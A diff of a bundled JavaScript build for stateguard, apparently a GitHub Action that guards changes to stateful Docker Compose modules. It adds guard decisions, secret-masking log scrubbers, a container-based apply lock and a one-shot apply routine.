+            reasons.push({
+                code: 'not-allowed',
+                input: 'allow-stateful',
+                message: `allow-stateful is not true; module '${module.name}' is ${module.class}`,
+                fix: "Set allow-stateful to 'true' (the workflow's allow_stateful checkbox) to change a stateful or sidecar module.",
+            });
+        }
+        const backup = input.backup;
+        if (backup === undefined) {
+            reasons.push({
+                code: 'backup-rejected',
+                input: 'backup-ref',
+                message: 'no backup-ref was given',
+                fix: `Take a backup (stateguard snapshot --module <parent>) and pass its path as backup-ref; it must live under a backup-root.`,
+            });
+        }
+        else if (isEvaluationError(backup)) {
+            reasons.push({
+                code: 'backup-rejected',
+                input: 'backup-ref',
+                message: `the backup could not be verified: ${backup.error}`,
+                fix: 'Pass a backup-ref that is a readable .tar.gz under a backup-root; run stateguard verify-backup to see why.',
+            });
+        }
+        else if (backup.verified !== true || (backup.problems ?? []).length > 0) {
+            const problems = backup.problems ?? [];
+            const listed = problems.length ? problems.map((p) => `${p.code}: ${p.message}`).join('; ') : 'verify-backup did not confirm it';
+            reasons.push({
+                code: 'backup-rejected',
+                input: 'backup-ref',
+                message: `backup-ref ${backup.path} did not pass verify-backup (${listed})`,
+                fix: 'Fix each backup problem listed (or take a fresh snapshot) and pass that path as backup-ref.',
+            });
+        }
+        const mismatch = describeConfirmMismatch(input.confirm, input.confirmToken);
+        if (mismatch !== null || input.confirmToken === '') {
+            reasons.push({
+                code: 'confirm-mismatch',
+                input: 'confirm',
+                message: input.confirmToken === '' ? 'the confirm token is empty, so no confirmation can match' : `${mismatch} (the value given is not shown)`,
+                fix: input.confirmToken === ''
+                    ? 'Set confirm-token to a non-empty value (default BACKUP_DONE).'
+                    : `Set confirm to exactly ${JSON.stringify(input.confirmToken)} (case-sensitive, no spaces) once the backup is done.`,
+            });
+        }
+    }
+    const ordered = orderReasons(reasons);
+    // Defensive: an unknown plan or any reason is a block. No branch can reach 'allowed' otherwise.
+    if (ordered.length === 0 && !planKnown) {
+        ordered.push({ code: 'internal', message: 'the plan could not be evaluated', fix: 'Re-run; stateguard failed closed.' });
+    }
+    if (ordered.length > 0) {
+        return {
+            module: module.name,
+            decision: 'blocked',
+            reasons: ordered,
+            drift_keys: driftKeys,
+            backup: backupSummary(input.backup),
+            failure_reason: ordered[0].code,
+        };
+    }
+    return { module: module.name, decision: 'allowed', reasons: [], drift_keys: driftKeys, backup: backupSummary(input.backup), failure_reason: '' };
+}
+/** Stable sort by FAILURE_PRECEDENCE; reasons outside it go last (still listed, still blocking). */
+function orderReasons(reasons) {
+    const rank = (r) => {
+        const i = FAILURE_PRECEDENCE.indexOf(r.code);
+        return i === -1 ? FAILURE_PRECEDENCE.length : i;
+    };
+    return reasons.map((r, i) => ({ r, i })).sort((a, b) => rank(a.r) - rank(b.r) || a.i - b.i).map((x) => x.r);
+}
+
+;// CONCATENATED MODULE: ./src/guard/evaluate.ts
+
+
+function evaluationError(err) {
+    let reason = 'internal';
+    if (err instanceof EnvironmentError)
+        reason = err.reason;
+    else if (err instanceof UserError)
+        reason = err.reason;
+    return { error: errorMessage(err), reason };
+}
+/** Plan exactly one module, fresh. Returns its plan and hash, or why it could not be planned. */
+async function planOne(modules, module, deps) {
+    try {
+        const plan = await deps.planModules(modules, deps.runtime, { only: [module.name] });
+        const mine = plan.modules.filter((m) => m.name === module.name);
+        if (mine.length !== 1) {
+            return { error: `the plan has ${mine.length} entries for module '${module.name}' (expected exactly 1)`, reason: 'internal' };
+        }
+        return { plan: mine[0], hash: deps.planHash(mine) };
+    }
+    catch (err) {
+        return evaluationError(err);
+    }
+}
+async function evaluateGuard(req, deps) {
+    const planned = await planOne(req.modules, req.module, deps);
+    const plan = 'error' in planned ? planned : planned.plan;
+    // The backup is read only when it can matter: a stateful/sidecar module with drift, or one whose
+    // plan is unknown (then every condition is reported at once).
+    const needsBackup = req.module.class !== 'stateless' && ('error' in planned || planned.plan.drift.length > 0);
+    let backup;
+    if (needsBackup && req.backupRef) {
+        try {
+            backup = await deps.verifyBackup({
+                backupRef: req.backupRef,
+                cwd: req.cwd,
+                module: req.module,
+                backupRoots: req.backupRoots,
+                now: req.now,
+                maxUncompressedBytes: req.maxUncompressedBytes,
+                maxEntries: req.maxEntries,
+            });
+        }
+        catch (err) {
+            backup = evaluationError(err);
+        }
+    }
+    const result = decide({
+        module: req.module,
+        plan,
+        allowStateful: req.allowStateful,
+        confirm: req.confirm,
+        confirmToken: req.confirmToken,
+        backup,
+    });
+    return { result, plan: 'error' in planned ? null : planned.plan, planHash: 'error' in planned ? null : planned.hash };
+}
+
+;// CONCATENATED MODULE: ./src/report/scrub.ts
+/**
+ * Replaces registered secret values with `***` in every string that leaves stateguard: the job log,
+ * stdout/stderr, the summary, outputs and JSON. Commands register secrets through the context;
+ * the CLI and action layers run every write through one Scrubber, so a command that forgets to
+ * scrub still cannot leak.
+ */
+const MASK = '***';
+/** Names of environment variables whose values are treated as secrets. */
+const SECRET_NAME = /PASS(WORD|WD)?|SECRET|TOKEN|(^|_)KEY($|_)|API_?KEY|PRIVATE|CREDENTIAL|AUTH|CERT|DSN|CONN(ECTION)?_?STRING|ACCESS_?KEY|SALT|SESSION/i;
+function looksSecret(name) {
+    return SECRET_NAME.test(name);
+}
+class Scrubber {
+    values = [];
+    add(value) {
+        // Very short values would mask ordinary text everywhere and reveal little; 3+ chars only.
+        if (!value || value.length < 3 || this.values.includes(value))
+            return;
+        this.values.push(value);
+        // Longest first, so a secret that contains another is masked whole.
+        this.values.sort((a, b) => b.length - a.length);
+    }
+    /** Secret values from `NAME=value` environment entries whose names look secret. */
+    addFromEnv(entries) {
+        const found = [];
+        for (const e of entries) {
+            const i = e.indexOf('=');
+            if (i <= 0)
+                continue;
+            const name = e.slice(0, i);
+            const value = e.slice(i + 1);
+            if (looksSecret(name) && value.length >= 3) {
+                this.add(value);
+                found.push(value);
+            }
+        }
+        return found;
+    }
+    get size() {
+        return this.values.length;
+    }
+    scrub(text) {
+        let out = text;
+        for (const v of this.values)
+            if (out.includes(v))
+                out = out.split(v).join(MASK);
+        return out;
+    }
+    /** Scrub every string inside a JSON-able value. */
+    scrubDeep(value) {
+        if (this.values.length === 0)
+            return value;
+        return JSON.parse(this.scrub(JSON.stringify(value)));
+    }
+}
+
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(7598);
+;// CONCATENATED MODULE: ./src/apply/lock.ts
+/**
+ * The per-module engine lock (DESIGN §6.1).
+ *
+ * A never-started container with a name derived from the compose project and service. Creating a
+ * container with a name is atomic on the engine, so two runners that share the engine (or two jobs
+ * on one runner) cannot both take it — unlike a file lock, which only holds on one machine. The
+ * container carries labels saying who holds the lock and since when; it never runs, so it needs no
+ * resources beyond a name.
+ *
+ * Image: `docker create` needs a local image, and must not pull (a pull would be slow, might
+ * fail, and would change the host). Candidates, by image ID so nothing is ever pulled:
+ *   1. the module's own image, when present locally (the usual case: it ran before, or compose
+ *      pulled it);
+ *   2. the image of any container of the same compose project (the project runs, so its images
+ *      are here);
+ *   3. any image on the engine.
+ * An image without a default command cannot be `create`d; that candidate is skipped and the next
+ * is tried. If none works the apply refuses (could not run) rather than running unlocked.
+ *
+ * A killed apply (cancelled job, lost runner) cannot release its lock. That is deliberate: the
+ * one-shot it started may still be running. The lock then counts as stale once it is older than
+ * max(stale-after, timeout_seconds + 10 min), and only an explicit --break-stale-lock removes it.
  */
 
 
-function notImplemented(name, description, inputs, outputs) {
-    return defineCommand({
-        name,
-        title: `stateguard ${name}`,
-        description,
-        inputs,
-        outputs,
-        async run() {
-            throw new errors_UserError(`stateguard ${name} is not implemented yet; this build cannot run it.`, {
-                reason: 'not-implemented',
-            });
+const LOCK_LABEL = {
+    lock: 'io.stateguard.lock',
+    module: 'io.stateguard.lock.module',
+    project: 'io.stateguard.lock.project',
+    service: 'io.stateguard.lock.service',
+    since: 'io.stateguard.lock.since',
+    holder: 'io.stateguard.lock.holder',
+};
+/** Extra time a holder may legitimately need beyond the one-shot's own timeout. */
+const STALE_MARGIN_MS = 10 * 60 * 1000;
+function sanitize(part) {
+    return part.toLowerCase().replace(/[^a-z0-9_.-]+/g, '_').replace(/^[^a-z0-9]+/, '').slice(0, 60);
+}
+/**
+ * `stateguard-lock-<project>-<service>-<hash>`: readable, valid as a container name whatever the
+ * inputs, and unique per (project, service) pair — the hash keeps `a-b`/`c` and `a`/`b-c` apart.
+ */
+function lockName(project, service) {
+    const hash = (0,external_node_crypto_.createHash)('sha256').update(JSON.stringify([project, service])).digest('hex').slice(0, 10);
+    return `stateguard-lock-${sanitize(project) || 'x'}-${sanitize(service) || 'x'}-${hash}`;
+}
+/** Who is applying, from the runner's environment. Identifiers only: nothing here is secret. */
+function describeHolder(env, host, pid) {
+    const parts = [];
+    if (env.GITHUB_REPOSITORY)
+        parts.push(`repo ${env.GITHUB_REPOSITORY}`);
+    if (env.GITHUB_WORKFLOW)
+        parts.push(`workflow ${JSON.stringify(env.GITHUB_WORKFLOW)}`);
+    if (env.GITHUB_RUN_ID) {
+        parts.push(`run ${env.GITHUB_RUN_ID}${env.GITHUB_RUN_ATTEMPT ? ` attempt ${env.GITHUB_RUN_ATTEMPT}` : ''}`);
+    }
+    if (env.GITHUB_ACTOR)
+        parts.push(`actor ${env.GITHUB_ACTOR}`);
+    parts.push(`host ${host}`, `pid ${pid}`);
+    // Labels are single-line; keep it short and printable.
+    return parts.join(', ').replace(/[\r\n\t]+/g, ' ').slice(0, 400);
+}
+async function imageCandidates(runtime, req) {
+    const out = [];
+    const add = (id) => {
+        if (id && !out.includes(id))
+            out.push(id);
+    };
+    if (req.moduleImages.length > 0) {
+        const ids = await runtime.imageIds(req.moduleImages);
+        for (const ref of req.moduleImages)
+            add(ids[ref]);
+    }
+    const containers = await runtime.listProjectContainers(req.project);
+    for (const c of containers.filter((x) => x.state === 'running'))
+        add(c.imageId);
+    for (const c of containers)
+        add(c.imageId);
+    if (out.length === 0) {
+        const r = await runtime.docker(['image', 'ls', '-q', '--no-trunc']);
+        if (r.code === 0)
+            for (const id of r.stdout.split('\n').map((s) => s.trim()).filter(Boolean).slice(0, 5))
+                add(id);
+    }
+    return out;
+}
+function lockLabels(req) {
+    return {
+        [LOCK_LABEL.lock]: '1',
+        [LOCK_LABEL.module]: req.module,
+        [LOCK_LABEL.project]: req.project,
+        [LOCK_LABEL.service]: req.service,
+        [LOCK_LABEL.since]: req.now.toISOString(),
+        [LOCK_LABEL.holder]: req.holder,
+    };
+}
+async function tryCreate(runtime, name, images, labels) {
+    const errors = [];
+    for (const image of images) {
+        try {
+            return await runtime.createNamedContainer(name, image, labels);
+        }
+        catch (err) {
+            // Typically "No command specified" for an image without CMD: try the next image.
+            errors.push(`${image.slice(0, 19)}: ${errorMessage(err)}`);
+        }
+    }
+    throw new EnvironmentError(images.length === 0
+        ? `cannot take the apply lock ${name}: there is no local image to create the lock container from ` +
+            `(pull the module's image first, e.g. with 'docker compose pull <service>')`
+        : `cannot take the apply lock ${name}: ${errors.join('; ')}`);
+}
+function describeExisting(c, now) {
+    if (!c)
+        return { holder: 'unknown (the lock vanished while being read)', since: 'unknown', ageMs: null, ours: true };
+    const ours = c.labels[LOCK_LABEL.lock] === '1';
+    const since = c.labels[LOCK_LABEL.since] || c.createdAt || 'unknown';
+    const t = Date.parse(since);
+    return {
+        holder: ours ? c.labels[LOCK_LABEL.holder] || 'unknown holder' : `a container that is not a stateguard lock (${c.name})`,
+        since,
+        ageMs: Number.isNaN(t) ? null : Math.max(0, now.getTime() - t),
+        ours,
+    };
+}
+function minutes(ms) {
+    return `${Math.round(ms / 60_000)} min`;
+}
+/**
+ * Take the lock, or say who holds it. A stale lock is broken only with breakStale, and only the
+ * exact container that was found stale is removed (by ID), so a lock taken by someone else in the
+ * meantime is never removed.
+ */
+async function acquireLock(runtime, req, timeoutSeconds) {
+    const name = lockName(req.project, req.service);
+    const labels = lockLabels(req);
+    const images = await imageCandidates(runtime, req);
+    const staleBoundMs = Math.max(req.staleAfterMs, timeoutSeconds * 1000 + STALE_MARGIN_MS);
+    let broke;
+    for (let attempt = 0; attempt < 2; attempt++) {
+        if (await tryCreate(runtime, name, images, labels)) {
+            const [me] = await runtime.inspectContainers([name]);
+            if (!me || me.labels[LOCK_LABEL.since] !== labels[LOCK_LABEL.since] || me.labels[LOCK_LABEL.holder] !== req.holder) {
+                throw new EnvironmentError(`took the apply lock ${name} but cannot read it back; refusing to continue`);
+            }
+            return { acquired: true, lock: { name, id: me.id, since: labels[LOCK_LABEL.since], holder: req.holder, broke } };
+        }
+        const [existing] = await runtime.inspectContainers([name]);
+        const info = describeExisting(existing, req.now);
+        const stale = info.ours && existing !== undefined && info.ageMs !== null && info.ageMs > staleBoundMs;
+        const refusal = (extra) => ({
+            acquired: false,
+            refusal: {
+                name,
+                holder: info.holder,
+                since: info.since,
+                ageMs: info.ageMs,
+                stale,
+                message: `module '${req.module}' is locked by another apply: ${info.holder}, since ${info.since}` +
+                    `${info.ageMs !== null ? ` (${minutes(info.ageMs)} ago)` : ''}; lock ${name}. ${extra}`,
+            },
+        });
+        if (!existing)
+            continue; // released between our create and inspect: try once more
+        if (!info.ours) {
+            return refusal('That name is taken by a container stateguard did not create; it is never removed automatically. Inspect it and remove it by hand if it is a leftover.');
+        }
+        if (!stale) {
+            return refusal(`Wait for it to finish. It counts as stale after ${minutes(staleBoundMs)} (max of lock-stale-after-minutes and timeout_seconds + 10 min); ` +
+                `only then can it be broken with break-stale-lock: true.`);
+        }
+        if (!req.breakStale || attempt > 0) {
+            return refusal(`The lock is stale (older than ${minutes(staleBoundMs)}): its holder probably died. Make sure no apply of this module is running, ` +
+                `then re-run with break-stale-lock: true (--break-stale-lock).`);
+        }
+        await runtime.removeContainer(existing.id);
+        broke = { holder: info.holder, since: info.since };
+    }
+    const [existing] = await runtime.inspectContainers([name]);
+    const info = describeExisting(existing, req.now);
+    return {
+        acquired: false,
+        refusal: {
+            name,
+            holder: info.holder,
+            since: info.since,
+            ageMs: info.ageMs,
+            stale: false,
+            message: `module '${req.module}' is locked by another apply: ${info.holder}, since ${info.since}; lock ${name}. Wait for it to finish.`,
         },
-    });
+    };
+}
+/** Remove exactly our lock container (by ID). Never throws: returns the problem, if any. */
+async function releaseLock(runtime, lock) {
+    try {
+        await runtime.removeContainer(lock.id);
+        return null;
+    }
+    catch (err) {
+        return `could not release the apply lock ${lock.name}: ${errorMessage(err)}. Remove it with 'docker rm ${lock.name}' once no apply is running.`;
+    }
 }
 
-;// CONCATENATED MODULE: ./src/commands/apply.ts
-/** `stateguard apply` — not implemented yet (its issue has not landed). */
+;// CONCATENATED MODULE: ./src/apply/logs.ts
+/**
+ * Container logs -> job log, scrubbed.
+ *
+ * A secret value can be split across two chunks of a pipe. Scrubbing chunk by chunk would then
+ * miss it, so chunks are reassembled into whole lines per stream (stdout and stderr separately, so
+ * one stream's text is never spliced into the middle of the other's line) and each line is
+ * scrubbed whole. A multi-line secret (a PEM key) is registered line by line for the same reason.
+ * A line longer than MAX_LINE is cut; the cut keeps a tail back (the longest secret's length) so a
+ * secret straddling the cut is still seen whole in the next piece.
+ */
+
+const MAX_LINE = 16 * 1024;
+/** Register the secret-looking values of `NAME=value` entries; returns how many values. */
+function registerEnvSecrets(entries, scrub, addSecret) {
+    let count = 0;
+    for (const e of entries) {
+        const i = e.indexOf('=');
+        if (i <= 0)
+            continue;
+        const name = e.slice(0, i);
+        const value = e.slice(i + 1);
+        if (!looksSecret(name) || value.length === 0)
+            continue;
+        const pieces = [value, ...value.split(/\r?\n/).map((l) => l.trim())];
+        for (const p of pieces) {
+            if (p.length < 3)
+                continue;
+            scrub.add(p);
+            addSecret(p);
+            count++;
+        }
+    }
+    return count;
+}
+class LineScrubber {
+    scrub;
+    emit;
+    tailSize;
+    maxLine;
+    holdBack;
+    pending = { stdout: '', stderr: '' };
+    tail = [];
+    constructor(scrub, emit, tailSize = 40, maxLine = MAX_LINE, 
+    /** held back when an over-long line is cut; longer than any secret line (PEM keys are registered per line) */
+    holdBack = 4096) {
+        this.scrub = scrub;
+        this.emit = emit;
+        this.tailSize = tailSize;
+        this.maxLine = maxLine;
+        this.holdBack = holdBack;
+    }
+    push(chunk, stream = 'stdout') {
+        let buf = this.pending[stream] + chunk;
+        let nl;
+        while ((nl = buf.indexOf('\n')) !== -1) {
+            this.line(buf.slice(0, nl).replace(/\r$/, ''), stream);
+            buf = buf.slice(nl + 1);
+        }
+        while (buf.length > this.maxLine) {
+            const cut = this.maxLine - this.holdBack;
+            // Emit a scrubbed prefix; keep `holdBack` characters so a secret over the cut stays whole.
+            const scrubbed = this.scrub.scrub(buf);
+            if (scrubbed !== buf) {
+                // A secret is inside: emit everything scrubbed, nothing of it can straddle anymore.
+                this.line(buf, stream);
+                buf = '';
+                break;
+            }
+            this.line(buf.slice(0, cut), stream);
+            buf = buf.slice(cut);
+        }
+        this.pending[stream] = buf;
+    }
+    /** Emit whatever is left (a last line without a newline). */
+    flush() {
+        for (const stream of ['stdout', 'stderr']) {
+            if (this.pending[stream] !== '')
+                this.line(this.pending[stream], stream);
+            this.pending[stream] = '';
+        }
+    }
+    lastLines() {
+        return [...this.tail];
+    }
+    line(raw, stream) {
+        const clean = this.scrub.scrub(raw);
+        this.tail.push(clean);
+        if (this.tail.length > this.tailSize)
+            this.tail.shift();
+        this.emit(clean, stream);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/apply/apply.ts
+/**
+ * apply of a one-shot module (DESIGN §6), against the Runtime interface only.
+ *
+ * Order: refuse non-one-shots → lock → fresh plan + guard (same inputs) → plan-hash binding →
+ * no-op ends → refuse a run still in progress → dependencies healthy before → recreate only this
+ * service → register the new container's secrets → stream scrubbed logs while `docker wait` runs
+ * (bounded by timeout_seconds; stop on timeout) → dependencies unchanged after → release the lock.
+ *
+ * Every path returns an ApplyOutcome; `applied` and `no-op` are the only successes, and each is
+ * reached only through explicit checks. Anything thrown is caught by the command layer and
+ * reported as "could not run" — never as success.
+ */
 
 
-const applyCommand = notImplemented('apply', 'Re-run a one-shot module until it exits 0, under a lock, after a fresh plan and guard.', [
-    ROOT_INPUT, MODULES_INPUT,
-    { name: 'module', kind: 'string', required: true, description: 'The one-shot module to apply.' },
-    { name: 'allow-stateful', kind: 'boolean', default: 'false', description: "Must be exactly 'true' to change a stateful or sidecar module." },
-    { name: 'backup-ref', kind: 'string', description: 'Path of the verified backup that covers the module.' },
-    { name: 'backup-root', kind: 'list', description: 'Allowed backup directories (repeatable; one per line in the action).' },
-    { name: 'confirm', kind: 'string', description: 'Must equal confirm-token exactly.' },
-    { name: 'confirm-token', kind: 'string', default: 'BACKUP_DONE', description: 'The confirmation token this repo uses.' },
-    { name: 'expected-plan-hash', kind: 'string', description: 'Refuse (plan-changed) when the fresh plan hash differs.' },
-    JSON_INPUT,
-], [
-    { name: 'exit-code', description: "The one-shot's exit code." },
-    { name: 'container-id', description: 'ID of the container that ran.' },
-    { name: 'duration-ms', description: 'How long the run took.' },
-    FAILURE_REASON_OUTPUT,
-]);
-
-;// CONCATENATED MODULE: ./src/commands/e2e-gate.ts
-/** `stateguard e2e-gate` — not implemented yet (its issue has not landed). */
 
 
-const e2eGateCommand = notImplemented('e2e-gate', 'A staging gate that never fails open: runs the e2e command only when switched on and fully configured.', [
-    ROOT_INPUT, MODULES_INPUT,
-    { name: 'switch', kind: 'string', default: 'STAGING_E2E', description: 'Name of the environment variable that switches the gate on (1/true).' },
-    { name: 'require', kind: 'list', description: 'Environment variables that must be set and non-empty (repeatable; one per line in the action).' },
-    { name: 'mode', kind: 'choice', choices: ['optional', 'required'], default: 'optional', description: 'optional: skip loudly when off or unconfigured; required: fail instead.' },
-    { name: 'persistence-probe', kind: 'string', description: 'Module whose data volumes are probed across a container recreate.' },
-    { name: 'run', kind: 'string', actionOnly: true, description: 'The e2e command (split into arguments; no shell unless you write one).' },
-    { name: 'command', kind: 'list', rest: true, cliOnly: true, description: 'The e2e command, after --.' },
-    JSON_INPUT,
-], [
-    { name: 'status', description: 'passed, failed or skipped.' },
-    { name: 'missing', description: 'JSON array of required variables that were missing or empty.' },
-    FAILURE_REASON_OUTPUT,
-]);
 
-;// CONCATENATED MODULE: ./src/commands/guard.ts
-/** `stateguard guard` — not implemented yet (its issue has not landed). */
+const apply_EVALUATION_REASONS = ['docker-unavailable', 'compose-error', 'internal'];
+function target(m) {
+    return { project: m.compose.project, files: [m.compose.path] };
+}
+/** Containers compose runs for the module's service (one-off `compose run` containers excluded). */
+async function serviceContainers(runtime, m) {
+    const all = await runtime.listProjectContainers(m.compose.project);
+    return all.filter((c) => c.service === m.compose.service && !c.oneoff);
+}
+async function dependencyState(runtime, m) {
+    const cs = (await serviceContainers(runtime, m)).sort((a, b) => (a.id < b.id ? -1 : 1));
+    return { module: m.name, container_ids: cs.map((c) => c.id), states: cs.map((c) => c.state), health: cs.map((c) => c.health) };
+}
+/** Why a dependency is not "running, healthy where it has a healthcheck", or null. */
+function dependencyProblem(s) {
+    if (s.container_ids.length === 0)
+        return `module '${s.module}' has no container`;
+    const bad = [];
+    s.container_ids.forEach((id, i) => {
+        const st = s.states[i];
+        const h = s.health[i];
+        if (st !== 'running')
+            bad.push(`${id.slice(0, 12)} is ${st}`);
+        else if (h !== null && h !== undefined && h !== 'healthy')
+            bad.push(`${id.slice(0, 12)} is ${h}`);
+    });
+    return bad.length ? `module '${s.module}': ${bad.join(', ')}` : null;
+}
+function compareDependency(before, after) {
+    const same = before.container_ids.length === after.container_ids.length && before.container_ids.every((id, i) => after.container_ids[i] === id);
+    if (!same) {
+        return `module '${before.module}' was recreated or removed during the apply: container ${before.container_ids.map((i) => i.slice(0, 12)).join(',')} → ${after.container_ids.map((i) => i.slice(0, 12)).join(',') || 'none'}`;
+    }
+    return dependencyProblem(after);
+}
+function renderedImages(services, service) {
+    const img = services[service]?.image;
+    return typeof img === 'string' && img.trim() !== '' ? [img.trim()] : [];
+}
+async function applyOneShot(req, deps) {
+    const m = req.module;
+    const runtime = deps.runtime;
+    const scrub = new Scrubber();
+    const clock = deps.clock ?? (() => performance.now());
+    const out = {
+        module: m.name,
+        status: 'failed',
+        failure_reason: 'internal',
+        could_not_run: false,
+        exit_code: null,
+        container_id: null,
+        duration_ms: null,
+        plan_hash: null,
+        expected_plan_hash: req.expectedPlanHash ?? null,
+        guard: null,
+        lock: null,
+        lock_refusal: null,
+        dependencies: [],
+        verdict: '',
+        messages: [],
+        log_tail: [],
+        warnings: [],
+    };
+    const say = (msg) => {
+        const clean = scrub.scrub(msg);
+        out.messages.push(clean);
+        deps.log.info(clean);
+    };
+    const end = (status, reason, message, couldNotRun = false) => {
+        out.status = status;
+        out.failure_reason = reason;
+        out.could_not_run = couldNotRun;
+        say(message);
+        out.verdict = out.messages[out.messages.length - 1];
+        return out;
+    };
+    // A long-running module is never applied by this path: refuse before touching the engine.
+    if (m.expectedState !== 'exited-success') {
+        return end('refused', 'drift-not-allowed', `apply only re-runs one-shot modules (expected_state: exited-success); module '${m.name}' is expected_state: ${m.expectedState}. ` +
+            `Deploy long-running services through your normal deploy, not stateguard apply.`);
+    }
+    const dependencies = [];
+    for (const name of m.dependsOnHealthy) {
+        const d = req.modules.find((x) => x.name === name);
+        if (!d)
+            return end('refused', 'invalid-modules', `depends_on_healthy names '${name}', which is not a module; run stateguard validate.`);
+        dependencies.push(d);
+    }
+    // 1. Lock. The module's image (rendered by compose) is the preferred lock image.
+    let moduleImages = [];
+    try {
+        moduleImages = renderedImages((await runtime.renderProject(target(m))).services, m.compose.service);
+    }
+    catch {
+        // Not fatal here: the fresh plan below renders again and blocks with the precise reason.
+    }
+    const taken = await acquireLock(runtime, {
+        module: m.name,
+        project: m.compose.project,
+        service: m.compose.service,
+        moduleImages,
+        holder: req.holder,
+        now: deps.now(),
+        staleAfterMs: req.staleAfterMs,
+        breakStale: req.breakStaleLock,
+    }, m.timeoutSeconds);
+    if (!taken.acquired) {
+        out.lock_refusal = taken.refusal;
+        return end('refused', 'locked', taken.refusal.message);
+    }
+    const lock = taken.lock;
+    out.lock = { name: lock.name, holder: lock.holder, since: lock.since, ...(lock.broke ? { broke: lock.broke } : {}) };
+    if (lock.broke) {
+        const w = `broke a stale apply lock held by ${lock.broke.holder} since ${lock.broke.since} (break-stale-lock: true)`;
+        out.warnings.push(w);
+        deps.log.warn(w);
+    }
+    say(`took the apply lock ${lock.name}`);
+    try {
+        return await underLock(req, deps, out, { say, end, scrub, clock, dependencies });
+    }
+    catch (err) {
+        // Fail closed: whatever broke, this is not a success.
+        const reason = err instanceof EnvironmentError ? err.reason : 'internal';
+        return end('failed', reason, `apply stopped: ${errorMessage(err)}`, true);
+    }
+    finally {
+        const problem = await releaseLock(runtime, lock);
+        if (problem) {
+            out.warnings.push(problem);
+            deps.log.warn(problem);
+        }
+        else {
+            out.messages.push(`released the apply lock ${lock.name}`);
+        }
+    }
+}
+async function underLock(req, deps, out, h) {
+    const m = req.module;
+    const runtime = deps.runtime;
+    const { say, end, scrub } = h;
+    // 2. Fresh plan and guard with the same inputs: a reviewed plan may be stale by now.
+    const ev = await evaluateGuard(req, deps);
+    out.guard = ev.result;
+    out.plan_hash = ev.planHash;
+    if (req.expectedPlanHash !== undefined && ev.planHash !== null && ev.planHash !== req.expectedPlanHash) {
+        return end('refused', 'plan-changed', `the fresh plan of '${m.name}' (plan_hash ${ev.planHash}) differs from the reviewed one (expected-plan-hash ${req.expectedPlanHash}). ` +
+            `Re-run stateguard plan --module ${m.name}, review it, and pass its plan_hash.`);
+    }
+    if (ev.result.decision === 'blocked') {
+        const first = ev.result.reasons[0];
+        return end('blocked', ev.result.failure_reason || 'internal', `the guard blocked the apply of '${m.name}': ` + ev.result.reasons.map((r) => `${r.message} — fix: ${r.fix}`).join(' | '), first !== undefined && apply_EVALUATION_REASONS.includes(first.code));
+    }
+    if (ev.result.decision === 'no-op') {
+        return end('no-op', '', `module '${m.name}' is in sync: nothing to apply`);
+    }
+    if (ev.result.decision !== 'allowed') {
+        return end('blocked', 'internal', `unexpected guard decision ${JSON.stringify(ev.result.decision)}; stateguard failed closed`, true);
+    }
+    say(`guard: allowed (${ev.result.drift_keys.join(', ')})`);
+    // 3. A run still in progress is never doubled.
+    const before = await serviceContainers(runtime, m);
+    const busy = before.filter((c) => c.state === 'running' || c.state === 'restarting' || c.state === 'paused');
+    if (busy.length > 0 || ev.plan?.observed.state === 'running') {
+        return end('refused', 'still-running', `module '${m.name}' is still running (${busy.map((c) => `${c.id.slice(0, 12)} ${c.state}`).join(', ') || 'per the plan'}); ` +
+            `a second run is refused. Wait for it to exit (docker wait), then apply again.`);
+    }
+    // Secrets of the previous run's environment are masked too (the new one usually has the same).
+    for (const c of before)
+        registerEnvSecrets(c.env, scrub, deps.addSecret);
+    // 4. Dependencies must be healthy before, and unchanged after.
+    const depBefore = [];
+    for (const d of h.dependencies) {
+        const s = await dependencyState(runtime, d);
+        const problem = dependencyProblem(s);
+        if (problem) {
+            out.dependencies.push({ module: d.name, before: s, after: null, ok: false, problem });
+            return end('refused', 'dependency-disturbed', `depends_on_healthy is not healthy before the apply (${problem}); nothing was run. Bring it back to running and healthy first.`);
+        }
+        depBefore.push(s);
+    }
+    const started = h.clock();
+    const rec = await runtime.recreateService(target(m), m.compose.service);
+    if (rec.code !== 0) {
+        const detail = scrub.scrub((rec.stderr || rec.stdout).trim().split('\n').slice(-5).join(' / '));
+        await checkDependencies(runtime, h.dependencies, depBefore, out);
+        return end('failed', 'compose-error', `compose could not recreate '${m.compose.service}' (exit ${rec.code}): ${detail}`, true);
+    }
+    const oldIds = new Set(before.map((c) => c.id));
+    const fresh = (await serviceContainers(runtime, m)).filter((c) => !oldIds.has(c.id));
+    if (fresh.length !== 1) {
+        await checkDependencies(runtime, h.dependencies, depBefore, out);
+        return end('failed', 'compose-error', `after recreating '${m.compose.service}' expected exactly one new container, found ${fresh.length}; refusing to guess which ran.`, true);
+    }
+    const run = fresh[0];
+    out.container_id = run.id;
+    // 6 (before any log line): every secret-looking value of the container's environment.
+    registerEnvSecrets(run.env, scrub, deps.addSecret);
+    say(`started ${m.compose.service} as container ${run.id.slice(0, 12)}; waiting up to ${m.timeoutSeconds}s for it to exit`);
+    // 5 + 6. Wait with the engine while the logs stream, scrubbed, line by line.
+    const lines = new LineScrubber(scrub, (line) => deps.log.raw(`${m.compose.service} | ${line}\n`));
+    const logsDone = runtime
+        .logs(run.id, (chunk, stream) => lines.push(chunk, stream ?? 'stdout'), true)
+        .catch((err) => {
+        const w = `log streaming stopped: ${errorMessage(err)}`;
+        out.warnings.push(scrub.scrub(w));
+    });
+    let waited;
+    try {
+        waited = await runtime.wait(run.id, m.timeoutSeconds * 1000);
+    }
+    catch (err) {
+        out.duration_ms = Math.round(h.clock() - started);
+        await settle(logsDone, deps.logGraceMs ?? 15_000);
+        lines.flush();
+        out.log_tail = lines.lastLines();
+        await checkDependencies(runtime, h.dependencies, depBefore, out);
+        return end('failed', err instanceof EnvironmentError ? err.reason : 'internal', `waiting for the one-shot failed: ${errorMessage(err)}`, true);
+    }
+    if (waited.timedOut) {
+        say(`the one-shot did not exit within timeout_seconds (${m.timeoutSeconds}s); stopping it`);
+        try {
+            await runtime.stop([run.id], 10);
+        }
+        catch (err) {
+            out.warnings.push(scrub.scrub(`could not stop ${run.id.slice(0, 12)}: ${errorMessage(err)}; stop it by hand`));
+        }
+    }
+    out.duration_ms = Math.round(h.clock() - started);
+    await settle(logsDone, deps.logGraceMs ?? 15_000);
+    lines.flush();
+    out.log_tail = lines.lastLines();
+    out.exit_code = waited.timedOut ? null : waited.exitCode;
+    // 7. Success needs exit 0 AND every dependency untouched.
